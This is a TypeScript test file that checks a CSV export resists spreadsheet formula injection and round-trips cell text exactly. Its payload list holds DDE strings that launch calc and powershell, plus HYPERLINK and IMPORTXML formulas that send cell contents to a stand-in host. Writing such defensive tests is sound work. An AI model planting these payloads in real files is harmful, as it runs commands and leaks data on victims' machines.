import { describe, expect, it } from 'vitest'
import { csvText } from '#core/release/csv/table.ts'
import { indicatorsCsv, patternsCsv } from '#core/release/csv.ts'
import { formulaSafe, fromFormulaSafe } from '#core/release/formula-safe.ts'
import { parseCsv } from '#tests/support/parse-csv.ts'
import { fc } from '#tests/support/property.ts'
import { indicatorOf, oneOfEach, payloadOf, releaseOf } from '#tests/support/release-input.ts'

/** 500 strings that spreadsheets have been made to run, disguised in the usual ways. */
const triggers = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', '|', '%']
const payloads = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.example","y")',
  "SUM(1+9)*cmd|' /C calc'!A0",
  'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
  "2+5+cmd|' /C powershell'!A0",
]
const disguises = ['', ' ', '"', "'", '"" ', '\u200b', '\ufeff', '\u00a0', ' \'"']
const hostile = triggers
  .flatMap((trigger) =>
    payloads.flatMap((payload) => disguises.map((disguise) => disguise + trigger + payload)),
  )
  .slice(0, 500)

/** What a spreadsheet is left with when it drops blanks and quotes before a cell. */
const isFormula = (cell: string) =>
  !cell.startsWith("'") && /^["\s\u200b\ufeff]*[=+\-@＝＋－＠]/.test(cell)

describe('CSV cells', () => {
  it('never start a formula and read back as the same text, for 500 hostile strings', () => {
    expect(hostile).toHaveLength(500)
    for (const text of hostile) {
      const [[cell = ''] = []] = parseCsv(csvText([[text, 'end']]))
      expect(isFormula(cell), JSON.stringify(text)).toBe(false)
      expect(fromFormulaSafe(cell)).toBe(text)
    }
  })

  it('do so for any strings, row by row', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'binary' }).filter((text) => !/\p{Surrogate}/u.test(text)),
      fc.string({
        unit: fc.constantFrom('=', '+', '-', '@', '"', "'", ',', '\r', '\n', '\t', ' ', 'a'),
      }),
    )
    const rows = fc.array(fc.tuple(cell, cell, cell), { minLength: 1 })
    fc.assert(
      fc.property(rows, (table) => {
        const text = csvText(table)
        const read = parseCsv(text)
        expect(read.map((row) => row.map(fromFormulaSafe))).toEqual(table)
        for (const one of read.flat()) expect(isFormula(one)).toBe(false)
      }),
      { numRuns: 500 },
    )
  })

  it('stay as they are when they are harmless', () => {
    for (const text of ['Chat support', '3-9 tips', 'a=b', "O'Neill", '', ' a', '2026-W47'])
      expect(formulaSafe(text)).toBe(text)
  })

  it('get back every text from its safe form', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom("'", '"', '=', '+', ' ', 'a', '\t') }),
        (text) => {
          expect(fromFormulaSafe(formulaSafe(text))).toBe(text)
        },
      ),
    )
  })
})

describe('the CSV files of a release', () => {
  it('start with a byte order mark and end lines with CR LF', () => {
    const text = patternsCsv(releaseOf())
    expect(text.startsWith('\ufeffnumber,version,status')).toBe(true)
    expect(text.endsWith('\r\n')).toBe(true)
  })

  it('hold one line per pattern, with bands that no spreadsheet takes for a date', () => {
    const [header = [], row = []] = parseCsv(patternsCsv(releaseOf()))
    const cells = Object.fromEntries(header.map((name, i) => [name, row[i]]))
    expect(cells).toMatchObject({
      number: 'P-0012',
      tlp: 'TLP:AMBER',
      tips: '10-49 tips',
      attributes: 'visa=tourist (3-9)',
      countries: 'reported_from TH (10-49); destination KH (3-9); destination KH-1 (3-9)',
      money: 'USD 10000 to 100000 (3-9)',
      actions: 'telecom: number_blocked',
      summary: 'Adverts promise office work.\nPeople are driven across a border at night.',
    })
  })

  it('hold one line per indicator, and a telephone number stays a text', () => {
    const rows = parseCsv(indicatorsCsv(releaseOf()))
    expect(rows).toHaveLength(oneOfEach.length + 1)
    expect(rows.find(([type]) => type === 'phone')?.[1]).toBe("'+85512345678")
  })

  it('survive a hostile title, summary and indicator', () => {
    const evil = '=HYPERLINK("http://x.example","a")\n=1+1,"'
    const release = releaseOf([
      payloadOf({ title: evil, summary: evil, indicators: [indicatorOf('domain', '@SUM(1)')] }),
    ])
    for (const text of [patternsCsv(release), indicatorsCsv(release)])
      for (const cell of parseCsv(text).flat()) expect(isFormula(cell)).toBe(false)
    expect(parseCsv(patternsCsv(release))[1]?.map(fromFormulaSafe)).toContain(evil)
  })
})
